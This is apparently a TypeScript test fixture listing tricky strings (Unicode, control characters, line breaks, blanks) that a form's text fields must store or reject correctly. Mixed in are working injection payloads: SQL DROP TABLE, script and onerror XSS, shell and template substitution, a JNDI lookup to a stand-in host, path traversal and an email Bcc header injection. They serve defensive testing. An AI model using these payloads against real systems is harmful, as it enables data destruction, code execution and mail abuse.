/*
 * Strings that have broken forms before, one of each kind. Characters that cannot be seen are written as escapes.
 */

/** Of one line; a field of text has to keep every one of them as it is. */
export const plainStrings: readonly string[] = [
  "'; DROP TABLE contact_submissions; --",
  "$$; select 1; $$",
  ..."% _ \\ \\u0041 \\0 <!-- ]]> &lt;b&gt; &#0; {{7*7}} ${7*7} $(id) %s%n %00 %0d%0a . -- ' \"".split(
    " ",
  ),
  ...'=1+1 @SUM(1+1) ${jndi:ldap://evil.example/a} {"$gt":""} a[b] a=b&c=d ?x=1#y =?utf-8?B?eA==?='.split(
    " ",
  ),
  ..."undefined null NaN true __proto__ constructor 0 -1 1e309 0x0 9007199254740993 1,000.00 08".split(
    " ",
  ),
  "</textarea><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "../../../../etc/passwd",
  "a+b c%20d",
  "Subject: hello",
  "O'Brien, Nguyễn Văn Ánh",
  "\u0661\u0662\u0663 \uFF11\uFF12",
  "\u7530\u4E2D \u0645\u0631\u062D\u0628\u0627 \u05D1\u05B0\u05BC \u0928\u092E\u0938\u094D\u0924\u0947 I\u0131",
  "\uFB01 \uFDFA \uFF21\uFF20 \uFF1Cscript\uFF1E \u{1D4EA} \u{20BB7}",
  "\u{10FFFD}\u{F0000}\uE000\uFFFE\uFFFF",
  "e\u0301 \u00E9 \u1100\u1161\u11A8 \uAC01",
  "Z\u0351\u036B\u0343\u036A\u0302\u0334\u0319\u0324\u031E\u0362",
  "\u0301x",
  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u{1F3F4}\u{E0067}\u{E007F} \u{1F1E7}\u{1F1F7}",
  "\u202Eevil\u202C \u2066abc\u2069 \u200Eabc\u200F",
  "a\u200Bb\u200Cc\u00ADd\uFEFFe\u00A0f\u2028g\u0085h\vi\fj\tk  l",
  "\u{E0001}a\u{E0041}\uFFF9a\uFFFAb\uFFFB\u3164",
  `${"Donaudampfschifffahrt".repeat(9)}s`,
  "\u{1F680}".repeat(200),
  "\u0301".repeat(199) + "e",
];

/** Of several lines; a field of one line makes spaces of the breaks. */
export const stringsWithLines: readonly string[] = [
  "one\r\ntwo",
  "one\rtwo",
  "one\n\n\ntwo",
  "a\r\nBcc: victim@engine.example\r\n\r\nhello",
  "one\n\ttwo\n  three",
];

/** Nothing in them that a reader would see. */
export const blankStrings: readonly string[] = [
  ..."  |\r\n|\u00A0|\uFEFF|\u200B\u200C\u200D|\u2060\u00AD|\u3164|\u202E|\u2028".split("|"),
  "",
];

/** What no database, terminal or mail takes as text. Browsers send `\uFFFD` for halves of pairs. */
export const unreadableStrings: readonly string[] =
  "a\0b|\0|a\u0007|\u001B[31mred|\u007F|\u009B31m|\uD800|a\uDC00b|\uFFFD".split("|");
